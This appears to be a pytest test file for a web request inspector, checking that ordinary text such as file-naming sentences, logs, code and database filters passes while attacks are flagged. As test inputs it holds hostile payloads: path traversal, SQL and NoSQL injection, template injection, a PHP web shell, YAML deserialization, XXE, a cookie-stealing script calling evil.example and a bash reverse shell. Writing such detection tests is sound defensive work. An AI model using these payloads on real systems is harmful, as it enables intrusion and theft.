"""Sentences that name files, programs stored as text, and XML with what formats prescribe."""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest

from guard_wsgi.detection import Inspection

SENTENCES = (
    "Update etc/shadow.sample",
    "Delete config/database.yml and add config/database.yml.example",
    "Please, see docs/install.md for the path /etc/passwd",
    "Why is C:\\Windows\\System32\\drivers\\etc\\hosts read only?",
    "Look at file:///etc/hosts first",
)


@pytest.mark.parametrize("text", SENTENCES)
@pytest.mark.parametrize("field", ["message", "comment", "title", "commits[].message"])
def test_a_sentence_names_files(inspection: Inspection, field: str, text: str) -> None:
    body = json.dumps({field: text}).encode()
    assert not inspection.body(body, content_type="application/json")


@pytest.mark.parametrize(
    "text",
    [
        "../../../../etc/passwd",
        "/etc/passwd",
        "C:\\Windows\\System32\\config\\SAM",
        "file:///etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "a ../../../../etc/passwd",
    ],
)
def test_a_path_is_no_sentence(inspection: Inspection, text: str) -> None:
    body = json.dumps({"message": text}).encode()
    assert inspection.body(body, content_type="application/json")


NPM_LOG = """0 verbose cli /usr/bin/node /usr/bin/npm
1 info using npm@10.8.2
2 info using node@v20.20.2
3 silly config load:file:/usr/lib/node_modules/npm/npmrc
4 silly config load:file:/home/ann/shop/.npmrc
5 silly config load:file:/usr/etc/npmrc
6 verbose title npm install
"""


@pytest.mark.parametrize("field", ["body", "content", "log"])
def test_a_log_of_npm_names_the_settings_that_it_loads(inspection: Inspection, field: str) -> None:
    form = f"title=x&{field}={quote(NPM_LOG)}".encode()
    assert not inspection.body(form, content_type="application/x-www-form-urlencoded")
    body = json.dumps({field: NPM_LOG}).encode()
    assert not inspection.body(body, content_type="application/json")
    assert not inspection.body(NPM_LOG.encode(), content_type="text/plain")


PROGRAM_IN_C = r"""
    assert(name);
    assert(shop);

    /* open the table */
    table = shop_open(name);
    if ((table == NULL) || (shop_root(table) == NULL)) {
        fprintf(stderr, "Error: unable to open \"%s\"\n", name);
        goto done;
    }

    /* find the row */
"""


@pytest.mark.parametrize("field", ["body", "content", "snippet"])
def test_a_program_in_c_compares_numbers(inspection: Inspection, field: str) -> None:
    form = f"title=x&{field}={quote(PROGRAM_IN_C)}".encode()
    assert not inspection.body(form, content_type="application/x-www-form-urlencoded")
    body = json.dumps({field: PROGRAM_IN_C}).encode()
    assert not inspection.body(body, content_type="application/json")


@pytest.mark.parametrize(
    "condition", ["1=1", "(1=1)", "((1=1))", "(1=1)and(2>1)", "(select 1)=1", "a<(b)", "(((1)))=1"]
)
def test_a_condition_in_a_call_of_sql_is_refused(inspection: Inspection, condition: str) -> None:
    text = f"7 and if({condition},sleep(5),0)"
    form = f"title=x&body={quote(text)}".encode()
    assert inspection.body(form, content_type="application/x-www-form-urlencoded")


@pytest.mark.parametrize(
    "text", ["file:/app/x", "url:file:///app/x", "d:file:/app/x", "load:file:/etc/passwd"]
)
def test_an_address_of_a_file_is_refused(inspection: Inspection, text: str) -> None:
    body = json.dumps({"x": text}).encode()
    assert inspection.body(body, content_type="application/json")


@pytest.mark.parametrize("path", ["/home/bob/project/src/main.py", "/home/ann/site/views/index.py"])
def test_a_tool_opens_a_program_in_a_home(inspection: Inspection, path: str) -> None:
    form = f"path={quote(path)}".encode()
    assert not inspection.body(form, content_type="application/x-www-form-urlencoded")
    for secret in ("/home/bob/.env", "/home/bob/shop/settings.ini", "/home/bob/db.sqlite3"):
        assert inspection.body(
            f"path={quote(secret)}".encode(), content_type="application/x-www-form-urlencoded"
        )


@pytest.mark.parametrize("field", ["file", "page", "path", "template", "item"])
def test_a_field_that_is_opened_has_no_sentences(inspection: Inspection, field: str) -> None:
    body = json.dumps({field: "Update ../../../../etc/passwd"}).encode()
    assert inspection.body(body, content_type="application/json")


@pytest.mark.parametrize("attack", ["x' OR '1'='1' -- ", "<script>alert(1)</script>", "$(id)"])
def test_a_sentence_excuses_no_other_attack(inspection: Inspection, attack: str) -> None:
    body = json.dumps({"message": f"Update etc/shadow.sample {attack}"}).encode()
    assert inspection.body(body, content_type="application/json")


SHELL = """#!/usr/bin/env bash
set -e
if [[ $(arch) == "aarch64" ]]; then
  echo "ERROR: not built for it" >&2
  exit 1
fi
FOLDER=$(dirname "$0")
cd "$FOLDER" || exit 1
tar xzf data.tar.gz && rm -f data.tar.gz
"""
C = """#include <stdio.h>
#define KIND "a"
static int check(PyObject *arg)
{
    if (!PyGreenlet_Check(arg)) {
        PyErr_BadArgument();
        return NULL;
    }
    if (arg == NULL || arg->kind == 'a' || arg->kind == 'b') return -1;
    return 0;
}
"""


@pytest.mark.parametrize("source", [SHELL, C])
def test_a_program_is_stored_as_text(inspection: Inspection, source: str) -> None:
    for line_end in ("\n", "\r\n"):
        body = source.replace("\n", line_end).encode()
        assert not inspection.body(body, content_type="text/plain; charset=utf-8")


@pytest.mark.parametrize(
    "text",
    [
        "!!python/object/apply:os.system\nargs:\n  - id\n#\n#\n#\n#\n",
        "x' UNION SELECT username, password FROM users -- ",
        "<?php system($_GET['c']); ?>",
    ],
)
def test_a_text_that_is_no_program_is_weighed(inspection: Inspection, text: str) -> None:
    assert inspection.body(text.encode(), content_type="text/plain")


@pytest.mark.parametrize("field", ["code", "snippet", "data.source", "paste"])
def test_a_program_is_pasted_into_a_field_for_programs(inspection: Inspection, field: str) -> None:
    for source in (SHELL, C):
        body = json.dumps({field: source}).encode()
        assert not inspection.body(body, content_type="application/json")


@pytest.mark.parametrize(
    "attack",
    [
        "<script>fetch('//evil.example/?' + document.cookie)</script>",
        "x' UNION SELECT username, password FROM users -- ",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    ],
)
def test_lines_of_a_program_hide_no_exploit(inspection: Inspection, attack: str) -> None:
    for field in ("code", "comment", "text", "item"):
        body = json.dumps({field: f"{C}{attack}\n{C}"}).encode()
        assert inspection.body(body, content_type="application/json"), field


FILTERS = (
    '{"age": {"$gte": 18}, "$or": [{"city": "Bonn"}, {"city": "K\u00f6ln"}]}',
    '{"name": {"$regex": "^a", "$options": "i"}, "$and": [{"open": true}]}',
)


@pytest.mark.parametrize("question", FILTERS)
def test_a_question_to_a_store_is_quoted(inspection: Inspection, question: str) -> None:
    for field in ("comment", "text", "answer"):
        body = json.dumps({field: question}).encode()
        assert not inspection.body(body, content_type="application/json")
    for field in ("comment", "url", "item"):
        address = f"https://app.example.com/list?sort=-created&filter={quote(question)}"
        body = json.dumps({field: address}).encode()
        assert not inspection.body(body, content_type="application/json")


@pytest.mark.parametrize(
    "document",
    [
        {"user": {"$ne": None}},
        {"password": {"$gt": ""}},
        {"user": '{"$ne": null}'},
        {"comment": {"$ne": ""}},
        {"comment": '{"$gt": ""}'},
        {"comment": '{"$where": "sleep(5000)"}'},
        {"url": 'https://app.example.com/?user={"$ne": 1}'},
    ],
)
def test_a_question_that_is_asked_is_none_that_is_quoted(
    inspection: Inspection, document: dict[str, object]
) -> None:
    assert inspection.body(json.dumps(document).encode(), content_type="application/json")


XSL = """<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
<xsl:template match="//b | //c"><p/></xsl:template></xsl:stylesheet>"""
DTD = """<!-- A catalogue. -->
<!ENTITY % text "(#PCDATA)">
<!ELEMENT book (title, author*)>
<!ATTLIST book id ID #REQUIRED>
"""
FONTS = '<?xml version="1.0"?>\n<!DOCTYPE fontconfig SYSTEM "../fonts.dtd">\n<fontconfig/>'


def test_documents_name_what_their_formats_prescribe(inspection: Inspection) -> None:
    for text, kind in (
        (XSL, "application/xslt+xml"),
        (XSL.replace("xsl:", "t:").replace("xmlns:xsl", "xmlns:t"), "application/xml"),
        (DTD, "application/xml-dtd"),
        (FONTS, "application/xml"),
    ):
        assert not inspection.body(text.encode(), content_type=kind), text


def test_entities_are_found_whatever_a_document_is_called(inspection: Inspection) -> None:
    entity = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    for kind in ("application/xml-dtd", "application/xml", "application/xslt+xml"):
        assert inspection.body(entity.encode(), content_type=kind)
    outside = '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>'
    assert inspection.body(outside.encode(), content_type="application/xml")
